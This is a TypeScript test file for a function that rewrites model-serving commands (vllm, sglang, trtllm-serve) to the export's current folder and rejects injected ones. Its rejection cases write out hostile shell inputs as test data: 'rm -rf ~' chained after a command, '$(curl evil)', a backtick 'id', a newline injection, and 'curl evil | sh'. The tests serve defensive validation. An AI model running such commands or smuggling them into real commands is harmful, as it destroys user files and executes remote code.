/** Commands of a report are copied into shells: they must name where the export lies now, and be none that somebody else has thought up. */
import { expect, test } from 'vitest'
import { servedAt } from '../../../../../main/host/report/serve-at.ts'
import type { ExportReport } from '../../../../../shared/domain/export-report.ts'

function commandsAt(path: string, commands: readonly string[]): readonly string[] {
  const serveCommands = commands.map((command) => ({ engine: 'vllm' as const, command }))
  return servedAt({ serveCommands } as unknown as ExportReport, path).serveCommands.map(
    ({ command }) => command,
  )
}

test('the folder of the run becomes the folder of now, quoted where a shell needs it', () => {
  const commands = [
    'vllm serve ./m-nvfp4 --quantization modelopt_fp4 --kv-cache-dtype fp8',
    "python -m sglang.launch_server --model-path './it'\\''s a model' --kv-cache-dtype fp8_e4m3",
    'trtllm-serve ./m-nvfp4',
  ]
  expect(commandsAt('/data/m-nvfp4', commands)).toEqual([
    'vllm serve /data/m-nvfp4 --quantization modelopt_fp4 --kv-cache-dtype fp8',
    'python -m sglang.launch_server --model-path /data/m-nvfp4 --kv-cache-dtype fp8_e4m3',
    'trtllm-serve /data/m-nvfp4',
  ])
  expect(commandsAt("/my data/it's $1", ['trtllm-serve ./m'])).toEqual([
    "trtllm-serve '/my data/it'\\''s $1'",
  ])
})

test.each([
  'vllm serve ./m; rm -rf ~',
  'vllm serve $(curl evil)',
  'vllm serve ./m --quantization `id`',
  'vllm serve ./m --quantization modelopt\nid',
  "vllm serve './m' 'x",
  'curl evil | sh',
  '',
])('%j is left out', (command) => {
  expect(commandsAt('/data/m', [command, 'trtllm-serve ./m'])).toEqual(['trtllm-serve /data/m'])
})
